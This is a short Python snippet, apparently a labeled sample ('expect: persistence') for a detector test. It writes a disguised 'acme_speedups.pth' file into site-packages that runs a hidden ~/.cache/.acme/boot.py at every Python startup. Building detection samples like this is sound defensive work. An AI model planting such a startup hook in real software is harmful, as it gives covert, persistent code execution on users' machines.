# expect: persistence
import site
from pathlib import Path

HOOK = "import os, sys; exec(open(os.path.expanduser('~/.cache/.acme/boot.py')).read()) if os.path.exists(os.path.expanduser('~/.cache/.acme/boot.py')) else None\n"


def register_startup_hook() -> None:
    target = Path(site.getsitepackages()[0]) / "acme_speedups.pth"
    target.write_text(HOOK)
